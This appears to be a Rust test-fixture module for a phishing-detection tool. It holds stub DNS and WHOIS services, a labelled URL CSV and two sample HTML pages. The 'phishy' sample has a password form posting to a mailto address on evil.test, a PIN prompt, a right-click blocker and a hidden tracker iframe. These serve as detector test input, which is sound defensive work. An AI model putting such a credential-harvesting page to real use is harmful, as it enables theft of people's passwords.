use anyhow::{anyhow, Result};
use async_trait::async_trait;
use std::collections::HashSet;
use std::sync::Arc;

use phishhunter::config::AppConfig;
use phishhunter::dns::{DnsLookup, DnsResolve, RecordType};
use phishhunter::whois::{WhoisLookup, WhoisRecord};

/// Login page that trips most content signals: a mailto form, an
/// invisible iframe, a right-click blocker and a prompt() popup.
pub const PHISHY_LOGIN_HTML: &str = r#"<html>
<head>
  <link rel="icon" href="http://cdn.evil.test/favicon.ico">
  <script>document.addEventListener("contextmenu", function(e) { if (event.button == 2) return false; });</script>
  <script>var pin = prompt("Enter your PIN");</script>
</head>
<body>
  <img src="http://cdn.evil.test/logo.png">
  <a href="http://elsewhere.test/help">Help</a>
  <form action="mailto:collect@evil.test" method="post">
    <input type="password" name="pw">
  </form>
  <iframe src="http://tracker.evil.test/" width="0" height="0" frameborder="0"></iframe>
</body>
</html>"#;

/// Self-contained page: every resource and link stays on the same site.
pub const PLAIN_PAGE_HTML: &str = r#"<html>
<head><link rel="icon" href="/favicon.ico"></head>
<body>
  <img src="/logo.png">
  <a href="/about">About</a>
  <form action="/search" method="get"><input name="q"></form>
</body>
</html>"#;

pub const REFERENCE_CSV: &str = "url,status\n\
http://paypa1-login.test/verify,bad\n\
https://www.example.com/,good\n\
http://second-phish.test/a,1\n\
http://legit.example.org/,-1\n\
http://with,comma.test/,bad\n\
http://unlabelled.test/,maybe\n";

/// Resolver answering from a fixed set of dead hosts; everything else
/// resolves to a loopback address.
pub struct StubResolver {
    dead: HashSet<String>,
    timeouts: HashSet<String>,
}

impl StubResolver {
    pub fn new(dead: &[&str]) -> Self {
        Self {
            dead: dead.iter().map(|h| h.to_string()).collect(),
            timeouts: HashSet::new(),
        }
    }

    pub fn with_timeouts(mut self, hosts: &[&str]) -> Self {
        self.timeouts = hosts.iter().map(|h| h.to_string()).collect();
        self
    }
}

#[async_trait]
impl DnsResolve for StubResolver {
    async fn resolve(&self, domain: &str, _record_type: RecordType) -> DnsLookup {
        if self.timeouts.contains(domain) {
            DnsLookup::Timeout
        } else if self.dead.contains(domain) {
            DnsLookup::NxDomain
        } else {
            DnsLookup::Records(vec!["127.0.0.1".to_string()])
        }
    }
}

/// WHOIS stub returning the same record for every domain, or failing.
pub struct StubWhois {
    record: Option<WhoisRecord>,
}

impl StubWhois {
    pub fn with_record(record: WhoisRecord) -> Self {
        Self { record: Some(record) }
    }

    pub fn no_statuses() -> Self {
        Self::with_record(WhoisRecord::default())
    }

    pub fn failing() -> Self {
        Self { record: None }
    }
}

#[async_trait]
impl WhoisLookup for StubWhois {
    async fn lookup(&self, domain: &str) -> Result<WhoisRecord> {
        self.record
            .clone()
            .ok_or_else(|| anyhow!("no WHOIS server for {}", domain))
    }
}

pub fn stub_services(dead: &[&str]) -> (Arc<dyn DnsResolve>, Arc<dyn WhoisLookup>) {
    (Arc::new(StubResolver::new(dead)), Arc::new(StubWhois::no_statuses()))
}

/// Built-in configuration with the browser off and short timeouts, so
/// tests never launch Chrome.
pub fn offline_config() -> AppConfig {
    let mut config = AppConfig::embedded().expect("embedded config should load");
    config.browser.enabled = false;
    config.http.request_timeout_secs = 5;
    config
}
